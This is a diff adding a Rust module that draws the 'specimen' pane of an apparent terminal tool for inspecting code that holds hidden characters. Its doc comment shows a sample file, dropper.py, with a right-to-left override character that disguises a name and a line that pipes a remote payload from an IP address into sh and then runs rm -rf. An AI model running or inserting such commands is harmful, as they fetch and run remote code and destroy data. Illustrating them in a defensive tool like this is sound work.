@@ -1,0 +1,188 @@
+//! The specimen pane.
+//!
+//! ```text
+//! ╔ 1 Specimen dropper.py • edited ═════════════ python · 1 KiB ╗
+//! ║  1 import os                                                ║
+//! ║▲ 2 name = 'user<U+202E>nimda'                               ║
+//! ║  3 os.system('curl http://198.51.100.7/payload | sh; rm -rf›║
+//! ╚ EDIT  esc to leave ════════ Ln 3, Col 1 · 1 hidden character ╝
+//! ```
+
+mod row;
+mod title;
+
+#[cfg(test)]
+mod tests;
+
+use ratatui::Frame;
+use ratatui::buffer::Buffer;
+use ratatui::layout::Rect;
+
+use super::frame::{self, Title};
+use crate::tui::cells::{clip, width};
+use crate::tui::command::Command;
+use crate::tui::editor::Editor;
+use crate::tui::layout::Pane;
+use crate::tui::state::State;
+use crate::tui::theme::{Role, Theme};
+use row::{Line, Piece};
+
+/// What is drawn.
+#[derive(Clone, Debug)]
+pub struct View {
+    focused: bool,
+    title: Title,
+    /// How to leave, while keys type into the specimen.
+    editing: Option<String>,
+    body: Body,
+}
+
+#[derive(Clone, Debug)]
+enum Body {
+    /// Nothing is loaded: what could be done.
+    Empty(Vec<String>),
+    /// The lines in sight, behind a gutter of so many cells.
+    Rows(usize, Vec<Row>),
+}
+
+/// A line in sight.
+#[derive(Clone, Debug, PartialEq, Eq)]
+struct Row {
+    /// Its number, from 1.
+    number: usize,
+    sign: Option<Sign>,
+    /// The cursor is on it.
+    current: bool,
+    pieces: Vec<Piece>,
+}
+
+/// What the gutter says of a line.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Sign {
+    /// It has hidden characters.
+    Hidden,
+}
+
+impl Sign {
+    const fn symbol(self) -> &'static str {
+        match self {
+            Self::Hidden => "▲",
+        }
+    }
+
+    const fn role(self) -> Role {
+        match self {
+            Self::Hidden => Role::Mark,
+        }
+    }
+}
+
+/// Makes the view of a pane with that inner area.
+pub fn view(state: &State, inner: Rect) -> View {
+    let focused = state.focus == Pane::Specimen;
+    view_of(&state.editor, focused, state.editing, inner, |command| state.keymap.shown(command))
+}
+
+fn view_of(editor: &Editor, focused: bool, editing: bool, inner: Rect, key: impl Fn(Command) -> String) -> View {
+    View {
+        focused,
+        title: title::of(editor, editing, usize::from(inner.width)),
+        editing: editing.then(|| leave(&key(Command::Back))),
+        body: if editor.is_empty() && !editing {
+            Body::Empty(invitation(&key(Command::Edit), &key(Command::Open)))
+        } else {
+            body(editor, editing, inner)
+        },
+    }
+}
+
+fn leave(key: &str) -> String {
+    if key.is_empty() { String::new() } else { format!("{key} to leave") }
+}
+
+fn body(editor: &Editor, editing: bool, inner: Rect) -> Body {
+    let window = editor.window(inner.as_size());
+    let gutter = editor.gutter(inner.width);
+    let cells = window.left..window.left + usize::from(inner.width).saturating_sub(gutter);
+    let lines = window.top..editor.lines().len().min(window.top + usize::from(inner.height));
+    let (line_of_cursor, byte) = editor.cursor();
+    let row = |line| {
+        let current = line == line_of_cursor;
+        let cursor = (current && editing).then_some(byte);
+        Row {
+            number: line + 1,
+            sign: editor.findings(line).next().map(|_| Sign::Hidden),
+            current,
+            pieces: Line::pieces_of(editor, line, cursor, cells.clone()),
+        }
+    };
+    Body::Rows(gutter, lines.map(row).collect())
+}
+
+/// What can be done where there is no specimen; a command without a key is left to the palette.
+fn invitation(edit: &str, open: &str) -> Vec<String> {
+    let mut lines = vec!["No specimen yet".to_owned(), String::new(), "Paste code here".to_owned()];
+    let keys = [(edit, "to type"), (open, "to open a file")];
+    lines.extend(keys.iter().filter(|(key, _)| !key.is_empty()).map(|(key, what)| format!("press {key} {what}")));
+    lines
+}
+
+/// Draws it.
+pub fn render(frame: &mut Frame<'_>, area: Rect, view: &View, theme: &Theme) {
+    let inner = frame::draw(frame, area, Pane::Specimen, view.focused, &view.title, theme);
+    let buffer = frame.buffer_mut();
+    if let Some(leave) = &view.editing {
+        draw_editing(buffer, area, inner, leave, &view.title, theme);
+    }
+    match &view.body {
+        Body::Empty(lines) => draw_invitation(buffer, inner, lines, theme),
+        Body::Rows(gutter, rows) => {
+            for (y, row) in (inner.y..inner.bottom()).zip(rows) {
+                draw_row(buffer, Rect { y, height: 1, ..inner }, *gutter, row, theme);
+            }
+        }
+    }
+}
+
+fn draw_editing(buffer: &mut Buffer, area: Rect, inner: Rect, leave: &str, title: &Title, theme: &Theme) {
+    let taken = if title.bottom.is_empty() { 0 } else { width(&title.bottom) + 2 };
+    let room = usize::from(inner.width).saturating_sub(taken);
+    if area.height == 0 || room < title::EDIT.len() {
+        return;
+    }
+    let y = area.bottom() - 1;
+    let (x, _) = buffer.set_stringn(inner.x, y, title::EDIT, room, theme.style(Role::Accent));
+    if !leave.is_empty() && title::EDIT.len() + width(leave) + 1 < room {
+        buffer.set_stringn(x, y, format!("{leave} "), room, theme.style(Role::Muted));
+    }
+}
+
+fn draw_invitation(buffer: &mut Buffer, inner: Rect, lines: &[String], theme: &Theme) {
+    let height = u16::try_from(lines.len()).unwrap_or(u16::MAX);
+    let top = inner.y + inner.height.saturating_sub(height) / 2;
+    for (y, line) in (top..inner.bottom()).zip(lines) {
+        let text = clip(line, usize::from(inner.width));
+        let left = (usize::from(inner.width) - width(&text)) / 2;
+        let x = inner.x + u16::try_from(left).unwrap_or(0);
+        buffer.set_stringn(x, y, &text, usize::from(inner.width), theme.style(Role::Muted));
+    }
+}
+
+fn draw_row(buffer: &mut Buffer, area: Rect, gutter: usize, row: &Row, theme: &Theme) {
+    let end = area.right();
+    let mut x = area.x;
+    if row.current {
+        buffer.set_style(area, theme.style(Role::CursorLine));
+    }
+    if gutter > 0 {
+        let (symbol, role) = row.sign.map_or((" ", Role::LineNumber), |sign| (sign.symbol(), sign.role()));
+        x = buffer.set_stringn(x, area.y, symbol, 1, theme.style(role)).0;
+        let number = format!("{:>width$} ", row.number, width = gutter - 2);
+        x = buffer.set_stringn(x, area.y, number, gutter - 1, theme.style(Role::LineNumber)).0;
+    }
+    for piece in &row.pieces {
+        x = buffer
+            .set_stringn(x, area.y, &piece.text, usize::from(end.saturating_sub(x)), piece.meaning.style(theme))
+            .0;
+    }
+}
